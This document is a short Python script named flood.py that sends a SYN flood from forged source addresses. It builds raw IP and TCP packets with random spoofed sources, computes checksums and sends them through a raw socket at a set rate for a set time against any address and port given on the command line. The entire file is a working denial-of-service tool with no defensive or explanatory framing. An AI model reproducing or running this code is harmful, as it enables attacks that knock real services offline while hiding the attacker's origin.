"""SYN from forged addresses: flood.py ADDRESS PORT RATE SECONDS. Sends about RATE a second, and prints how many it sent."""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def packet(destination, port):
    source = struct.pack("!I", random.randrange(0x0b000000, 0x7e000000))
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
    check = checksum(source + destination + struct.pack("!HH", 6, len(tcp)) + tcp)
    # The kernel fills in the header checksum, identification and length (raw(7)).
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, 6, 0, source, destination)
    return header + tcp[:16] + struct.pack("!H", check) + tcp[18:]


def main(address, port, rate, seconds):
    destination = socket.inet_aton(address)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    sent = 0
    while (passed := time.monotonic() - begin) < seconds:
        for _ in range(int(rate * passed) - sent):
            sender.sendto(packet(destination, port), (address, 0))
            sent += 1
    print(sent)


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
